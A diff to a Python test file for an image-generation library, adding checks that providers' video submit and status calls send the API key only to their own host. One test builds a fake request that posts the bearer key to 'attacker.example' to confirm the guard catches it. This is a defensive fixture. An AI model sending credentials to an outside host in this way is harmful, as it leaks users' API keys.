@@ -12,8 +12,9 @@ import pytest
 from imagegen.errors import ValidationFailed
 from imagegen.keys.formats import check_key_format
 from imagegen.media.fetch import FetchPolicy
-from imagegen.models import ImageRequest, ProviderName
+from imagegen.models import ImageRequest, ProviderName, VideoProviderName, VideoRequest
 from imagegen.providers import (
+    DEFAULT_VIDEO_CHAIN,
     DEPLOYMENT_KEY_NAMES,
     IMAGE_PROVIDERS,
     KEY_PROVIDERS,
@@ -22,7 +23,9 @@ from imagegen.providers import (
     PROVIDER_NAMES,
     REGISTRY,
     RESULT_HOSTS,
+    VIDEO_PROVIDER_NAMES,
 )
+from imagegen.providers.base import RemoteRequest
 from imagegen.providers.settings import ProviderSettings, ProvidersSettings, ServiceSettings
 from imagegen.providers.spec import ProviderSpec
 from pydantic import SecretStr
@@ -81,7 +84,25 @@ def _key_problems(spec: ProviderSpec[Any]) -> list[str]:
         sent = spec.build_request(spec.plan(ImageRequest(prompt="probe"), None, keyed), keyed)
         if sent.url.netloc.decode() != keyed.api_host or not _key_only_in_header(sent, key.header):
             problems.append(f"generation must send the key in {key.header} to the API host only")
-    return problems
+    return problems + _video_key_problems(spec, key.header)
+
+
+def _video_key_problems(spec: ProviderSpec[Any], header: str) -> list[str]:
+    """A provider's video calls (submit, check) send its key in its header to its API host, and nowhere else."""
+    video = spec.video
+    if video is None:
+        return []
+    keyed = spec.settings().with_key(SecretStr(PROBE_KEY))
+    portable = VideoRequest(prompt="probe").portable()
+    submit = video.build_request(video.plan(portable, None, keyed), keyed)
+    check = video.async_.build_check(RemoteRequest("probe-id"), keyed)
+    if any(
+        sent.url.netloc.decode() != keyed.api_host or not _key_only_in_header(sent, header) for sent in (submit, check)
+    ):
+        return [f"video calls must send the key in {header} to the API host only"]
+    if video.async_.min_check_delay_s < 1 or video.async_.max_queue_s <= 0:
+        return ["a video queue needs a check schedule: min_check_delay_s >= 1, max_queue_s > 0"]
+    return []
 
 
 def spec_problems(name: str, spec: ProviderSpec[Any]) -> list[str]:
@@ -147,6 +168,13 @@ class TestRegistry:
         assert {name for name, spec in REGISTRY.items() if spec.keyless} == KEYLESS_PROVIDERS
         assert set(ProvidersSettings.defaults().providers) == set(REGISTRY)
 
+    def test_given_the_registry_when_video_names_are_derived_then_the_written_list_schema_and_specs_agree(self) -> None:
+        video = tuple(name for name, spec in REGISTRY.items() if spec.video is not None)
+        items = VideoRequest.model_json_schema()["properties"]["providers"]["anyOf"][0]["items"]
+        schema = tuple(items["enum"]) if "enum" in items else (items["const"],)
+        assert video and typing.get_args(VideoProviderName) == VIDEO_PROVIDER_NAMES == video == DEFAULT_VIDEO_CHAIN
+        assert schema == video
+
     def test_given_the_result_hosts_when_the_fetcher_is_built_then_each_is_on_its_default_allowlist(self) -> None:
         allowed = FetchPolicy().allowed_host_suffixes
         assert RESULT_HOSTS and [host for host in RESULT_HOSTS if host.lstrip(".") not in allowed] == []
@@ -205,3 +233,21 @@ class TestTheGuard:
         problems = spec_problems("siliconflow", replace(siliconflow.SPEC, key=leaky))
 
         assert problems == ["the key check must send the key in authorization to the provider's own host only"]
+
+    def test_given_a_video_submit_sent_elsewhere_when_checked_then_it_is_refused(self) -> None:
+        from dataclasses import replace
+
+        from imagegen.providers import siliconflow
+        from imagegen.providers.base import bearer, request
+
+        assert siliconflow.SPEC.video is not None
+        leaky = replace(
+            siliconflow.SPEC.video,
+            build_request=lambda plan, settings: request(
+                "POST", "https://attacker.example/video/submit", headers=bearer(settings.api_key)
+            ),
+        )
+
+        problems = spec_problems("siliconflow", replace(siliconflow.SPEC, video=leaky))
+
+        assert problems == ["video calls must send the key in authorization to the API host only"]
